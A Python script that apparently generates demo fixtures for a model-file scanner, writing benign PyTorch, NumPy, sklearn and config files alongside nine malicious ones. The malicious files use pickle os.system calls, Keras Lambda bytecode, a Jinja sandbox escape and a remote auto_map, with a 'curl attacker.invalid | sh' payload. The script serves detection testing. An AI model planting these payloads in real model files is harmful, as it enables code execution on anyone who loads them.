#!/usr/bin/python3
"""Writes the demo's model files: benign ones made by the real libraries,
and malicious ones, one per technique, made the way attackers make them.

Usage: gen-demo.py OUTDIR   (writes OUTDIR/benign and OUTDIR/malicious)
Nothing here is ever loaded: the malicious files only need to exist.
"""
import base64
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zipfile

import numpy as np


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


class Exec:
    """Pickles as a call of os.system: what every pickle exploit is."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def benign(out):
    import torch
    import joblib
    from sklearn.linear_model import LogisticRegression

    os.makedirs(out, exist_ok=True)
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(),
                              torch.nn.Linear(8, 2))
    torch.save(net.state_dict(), os.path.join(out, "classifier.pt"))
    np.save(os.path.join(out, "embeddings.npy"),
            np.arange(64, dtype=np.float32).reshape(8, 8))
    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    clf = LogisticRegression().fit(X, [0, 1, 1, 0])
    joblib.dump(clf, os.path.join(out, "sklearn-model.joblib"))

    # safetensors: an 8-byte header length, a JSON header, the data.
    data = np.arange(6, dtype=np.float32).tobytes()
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [2, 3],
                            "data_offsets": [0, len(data)]}}).encode()
    hdr += b" " * (-len(hdr) % 8)
    write(os.path.join(out, "model.safetensors"),
          struct.pack("<Q", len(hdr)) + hdr + data)

    write(os.path.join(out, "config.json"), json.dumps({
        "architectures": ["LlamaForCausalLM"], "model_type": "llama",
        "hidden_size": 64, "num_hidden_layers": 2}, indent=2).encode())
    write(os.path.join(out, "tokenizer_config.json"), json.dumps({
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": "{% for message in messages %}"
                         "{{ '<|' + message['role'] + '|>\\n' + "
                         "message['content'] | trim + '\\n' }}"
                         "{% endfor %}{% if add_generation_prompt %}"
                         "{{ '<|assistant|>\\n' }}{% endif %}"}, indent=2)
          .encode())


def malicious(out):
    cmd = "curl -s attacker.invalid/x | sh"
    # 1. The classic: REDUCE of os.system.
    write(os.path.join(out, "reduce.pkl"), pickle.dumps(Exec(cmd), 2))
    # 2. Protocol 0, no magic byte, builtins via the Python 2 name.
    write(os.path.join(out, "proto0.bin"),
          b"c__builtin__\neval\n(S'__import__(\"os\").system(\"id\")'\ntR.")
    # 3. A PyTorch zip whose data.pkl runs code on torch.load.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("model/data.pkl", pickle.dumps(Exec(cmd), 2))
        z.writestr("model/version", "3\n")
    write(os.path.join(out, "pytorch_model.bin"), buf.getvalue())
    # 4. STACK_GLOBAL with names from the memo and a dotted attribute walk.
    def short(s):
        return b"\x8c" + bytes([len(s)]) + s
    write(os.path.join(out, "dotted.pkl"),
          b"\x80\x04" + short(b"numpy") + b"\x940" +
          short(b"testing._private.utils.os.system") + b"\x940" +
          b"h\x00h\x01\x93" + short(b"id") + b"\x85R.")
    # 5. A NumPy object array whose pickle calls exec.
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * (-(len(hdr) + 11) % 64) + "\n"
    write(os.path.join(out, "features.npy"),
          b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) +
          hdr.encode() + pickle.dumps(Exec(cmd), 2))
    # 6. The payload hidden in a compressed tar.
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        blob = pickle.dumps(Exec(cmd), 4)
        info = tarfile.TarInfo("weights/model.pkl")
        info.size = len(blob)
        t.addfile(info, io.BytesIO(blob))
    write(os.path.join(out, "bundle.tar.gz"), gzip.compress(tbuf.getvalue()))
    # 7. A Keras 2 config with a Lambda layer carrying marshalled bytecode.
    code = compile("lambda x: __import__('os').system('id')", "<l>", "eval")
    write(os.path.join(out, "keras_config.json"), json.dumps({
        "class_name": "Sequential", "config": {"name": "s", "layers": [
            {"class_name": "Lambda", "config": {
                "name": "l", "function_type": "lambda",
                "function": [base64.b64encode(marshal.dumps(code))
                             .decode(), None, None]}}]}}).encode())
    # 8. A chat template that escapes the Jinja sandbox.
    write(os.path.join(out, "tokenizer_config.json"), json.dumps({
        "chat_template": "{{ cycler.__init__.__globals__.os.popen('id')"
                         ".read() }}"}).encode())
    # 9. An auto_map that pulls code from another repository.
    write(os.path.join(out, "config.json"), json.dumps({
        "model_type": "llama",
        "auto_map": {"AutoModel": "someone/else--modeling.Model"}}).encode())


def main():
    out = sys.argv[1]
    benign(os.path.join(out, "benign"))
    malicious(os.path.join(out, "malicious"))


if __name__ == "__main__":
    main()
